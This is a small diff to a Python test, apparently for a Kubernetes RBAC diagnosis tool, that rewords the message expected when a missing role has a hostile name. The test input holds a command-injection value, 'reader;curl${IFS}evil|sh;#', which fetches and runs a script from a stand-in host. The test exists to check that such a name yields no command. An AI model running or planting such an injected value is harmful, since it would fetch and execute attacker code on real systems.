@@ -188,4 +188,4 @@ def test_a_missing_role_with_a_hostile_name_gets_no_command_and_says_so() -> Non
     found = verdict(world().add(binding("reader;curl${IFS}evil|sh;#")))
     assert found.root and found.root.cause.id == "rbac-role-missing"
     first = found.root.recommendations[0]
-    assert str(first.command) == "" and "A command is left out: the evidence gives as role" in first.told
+    assert str(first.command) == "" and "No command is given: the role in the evidence" in first.told
